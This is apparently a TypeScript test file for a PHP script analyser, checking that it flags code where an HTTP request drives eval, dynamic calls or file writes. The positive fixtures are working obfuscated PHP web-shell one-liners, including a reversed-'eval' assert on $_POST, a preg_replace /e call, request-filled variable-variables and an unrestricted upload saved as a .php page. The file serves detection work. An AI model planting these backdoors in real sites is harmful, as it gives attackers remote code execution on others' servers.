// PHP that holds the request in the text of its code, or has it fill names, and honest pages that do nearly the same.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { ScriptLanguage } from '../../../src/data/script-languages.ts'
import { readScript } from '../../../src/file/formats/script/read.ts'

const OF_REQUEST = new Set(['request_decides_command', 'request_reaches_made_call', 'request_writes_file'])
const found = (language: ScriptLanguage, text: string): readonly string[] =>
  readScript(text, language)
    .facts.traits.map(({ id }) => id)
    .filter((id) => OF_REQUEST.has(id))

const HITS: readonly (readonly [string, string, ScriptLanguage, string])[] = [
  [
    'code that holds the request in its text',
    'request_reaches_made_call',
    'php',
    "<?php $n = 'lave'; $c = '($_POST[k])'; $n = strrev($n); @assert($n.$c);",
  ],
  [
    'a pattern whose last letter is made, on a list under another name',
    'request_reaches_made_call',
    'php',
    '<?php $all = &$_POST; preg_replace("/".$mark."/e", $all["code"], $mark);',
  ],
  [
    'an object of names that the request fills',
    'request_reaches_made_call',
    'php',
    '<?php class One { public function __construct($a, $b) { $a($b); } } $c = new ReflectionClass("One"); foreach (array("_POST") as $l) { foreach ($$l as $k => $v) { $$k = $v; } } $c->newInstance($k, $$k);',
  ],
  [
    'a name that the request fills, by two functions',
    'request_decides_command',
    'php',
    "<?php function read($k){ return file_get_contents($k); }\nfunction one($k){ two(read($k)); }\nfunction two($k){ $s = ''; return eval($s.$k.$s); }\nforeach (array('_COOKIE','_GET') as $l) { foreach ($$l as $k => $v) { $$k = $v; } }\none($id);\n",
  ],
  [
    'names without a letter',
    'request_reaches_made_call',
    'php',
    '<?php $_=($__=1)/1; $____.=~($___[$_]); $_=$$_____; $____($_[$__]);',
  ],
  [
    'an upload that is kept as a page, whatever it is',
    'request_writes_file',
    'php',
    '<form enctype="multipart/form-data" method="POST"><input name="f" type="file"></form><? move_uploaded_file($f, "news.php"); ?>',
  ],
]
const MISSES: readonly (readonly [string, ScriptLanguage, string])[] = [
  [
    'a query that holds the request in its text',
    'php',
    '<?php $q = "select * from t where n = \'".addslashes($_POST["n"])."\'"; $r = query($q); assert($r instanceof Result);',
  ],
  [
    'a pattern that replaces in what came',
    'php',
    '<?php $all = $_POST; echo preg_replace("/[^a-e]/", "", $all["name"]); echo preg_replace("~<e>~u", $all["x"], $t);',
  ],
  [
    'names that the request fills and that are only shown',
    'php',
    '<?php foreach (array("_GET") as $l) { foreach ($$l as $k => $v) { $$k = $v; } } echo htmlspecialchars($title); $o = new Page($title);',
  ],
]

for (const [name, id, language, text] of HITS)
  test(`found: ${name}`, () => assert.ok(found(language, text).includes(id), found(language, text).join(' ')))
for (const [name, language, text] of MISSES)
  test(`not found: ${name}`, () => assert.deepEqual(found(language, text), []))
